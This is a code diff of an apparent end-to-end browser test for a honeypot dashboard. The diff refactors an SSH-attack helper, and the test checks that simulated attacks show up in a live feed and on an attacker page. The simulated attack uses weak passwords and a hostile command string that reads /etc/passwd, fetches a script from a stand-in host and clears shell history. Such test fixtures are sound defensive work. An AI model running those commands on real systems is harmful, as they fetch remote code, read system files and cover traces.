@@ -8,7 +8,8 @@ import { createSocket } from 'node:dgram';
 import { existsSync, mkdirSync, mkdtempSync } from 'node:fs';
 import { join } from 'node:path';
 import { ROOT, waitFor } from '../helpers/env.ts';
-import { ADMIN_PASSWORD, sshAttack, startFleet, type Fleet } from '../helpers/fleet.ts';
+import { ADMIN_PASSWORD, startFleet, type Fleet } from '../helpers/fleet.ts';
+import { sshAttack } from '../helpers/ssh-attack.ts';
 import type { BrowserContext, Page } from 'playwright-core';
 
 const CHROMIUM = '/usr/bin/chromium';
@@ -134,7 +135,7 @@ test('dashboard in Chromium: login, password change, live attack, attacker page,
     const feedRow = (text: string) => page.locator('table[aria-label="live feed"] tbody tr', { hasText: text });
 
     await step('an SSH attack made now appears live in the feed, and in the top lists', async () => {
-      await sshAttack(fleet.decky.ip, fleet.attackerIp, ['letmein', 'toor', 'admin'], 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; history -c');
+      await sshAttack({ host: fleet.decky.ip, from: fleet.attackerIp }, ['letmein', 'toor', 'admin'], 'uname -a; cat /etc/passwd; wget http://198.51.100.7/x.sh; history -c');
       await feedRow(fleet.attackerIp).filter({ hasText: 'auth_attempt' }).first().waitFor();
       await feedRow(fleet.attackerIp).filter({ hasText: 'uname -a' }).first().waitFor();
       // Profiles and tags are built by the intel workers a moment later; the cards refresh by themselves.
@@ -158,7 +159,7 @@ test('dashboard in Chromium: login, password change, live attack, attacker page,
       await page.locator('table[aria-label="techniques"]').getByRole('link', { name: 'T1082' }).waitFor();
       const at = page.url();
       // A new session while the page is open appears in the timeline without a reload.
-      await sshAttack(fleet.decky.ip, fleet.attackerIp, ['admin'], 'id');
+      await sshAttack({ host: fleet.decky.ip, from: fleet.attackerIp }, ['admin'], 'id');
       await timeline.locator('tr', { hasText: '$ id' }).first().waitFor();
       assert.equal(page.url(), at);
       await shot(page, 'attacker.png');
